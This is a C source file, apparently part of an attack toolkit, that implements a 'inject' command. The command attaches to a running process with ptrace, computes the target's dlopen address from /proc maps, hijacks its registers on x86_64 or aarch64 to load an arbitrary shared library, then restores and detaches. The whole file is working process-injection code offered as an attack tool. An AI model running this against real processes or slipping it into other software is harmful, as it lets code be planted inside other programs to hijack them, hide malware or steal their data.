/* inject PID LIBRARY: makes a running program of the same user load a library, by ptrace(2). */
#define _GNU_SOURCE
#include "attack.h"

#include <dlfcn.h>
#include <elf.h>
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

/* Finds the start of the C library in a process. */
static unsigned long base_of_library(pid_t pid) {
    char path[64], line[512];
    unsigned long first = 0;
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "re");
    while (maps && fgets(line, sizeof line, maps))
        if (strstr(line, "/libc.so.6") && sscanf(line, "%lx-", &first) == 1) break;
    if (maps) fclose(maps);
    return first;
}

#if defined(__x86_64__)
static void prepare(struct user_regs_struct *registers, unsigned long function, unsigned long text, pid_t pid) {
    /* The stack is as after a call: the return address, here 0, is on top. */
    registers->rsp = (text & ~15ul) - 8;
    ptrace(PTRACE_POKEDATA, pid, (void *)registers->rsp, NULL);
    registers->rip = function;
    registers->rdi = text;
    registers->rsi = RTLD_NOW;
    registers->rax = 0;
    /* The kernel must not restart a system call. */
    registers->orig_rax = (unsigned long)-1;
}
#define STACK(registers) (registers).rsp
#elif defined(__aarch64__)
static void prepare(struct user_regs_struct *registers, unsigned long function, unsigned long text, pid_t pid) {
    int none = -1;
    struct iovec call = {&none, sizeof none};
    ptrace(PTRACE_SETREGSET, pid, (void *)NT_ARM_SYSTEM_CALL, &call);
    registers->sp = text & ~15ul;
    registers->pc = function;
    registers->regs[0] = text;
    registers->regs[1] = RTLD_NOW;
    registers->regs[30] = 0;
}
#define STACK(registers) (registers).sp
#endif

int verb_inject(int count, char **words) {
    if (count != 2) return 2;
    pid_t pid = atoi(words[0]);
    unsigned long here = base_of_library(getpid()), there = base_of_library(pid);
    unsigned long function = (unsigned long)dlsym(RTLD_DEFAULT, "dlopen") - here + there;
    if (here == 0 || there == 0 || ptrace(PTRACE_ATTACH, pid, NULL, NULL) != 0) return perror("attach"), 1;
    int status;
    waitpid(pid, &status, __WALL);
    struct user_regs_struct before, registers;
    struct iovec set = {&before, sizeof before};
    ptrace(PTRACE_GETREGSET, pid, (void *)NT_PRSTATUS, &set);
    registers = before;
    unsigned long text = (STACK(before) - 1024) & ~15ul;
    for (size_t offset = 0; offset <= strlen(words[1]); offset += sizeof(long)) {
        long word = 0;
        strncpy((char *)&word, words[1] + offset, sizeof word);
        ptrace(PTRACE_POKEDATA, pid, (void *)(text + offset), (void *)word);
    }
    prepare(&registers, function, text, pid);
    set.iov_base = &registers;
    ptrace(PTRACE_SETREGSET, pid, (void *)NT_PRSTATUS, &set);
    ptrace(PTRACE_CONT, pid, NULL, NULL);
    /* After the call the program returns to address 0, which stops it. */
    while (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status) && WSTOPSIG(status) != SIGSEGV)
        ptrace(PTRACE_CONT, pid, NULL, NULL);
    set.iov_base = &before;
    ptrace(PTRACE_SETREGSET, pid, (void *)NT_PRSTATUS, &set);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
    printf("%s\n", WIFSTOPPED(status) ? "loaded" : "it ended");
    return 0;
}
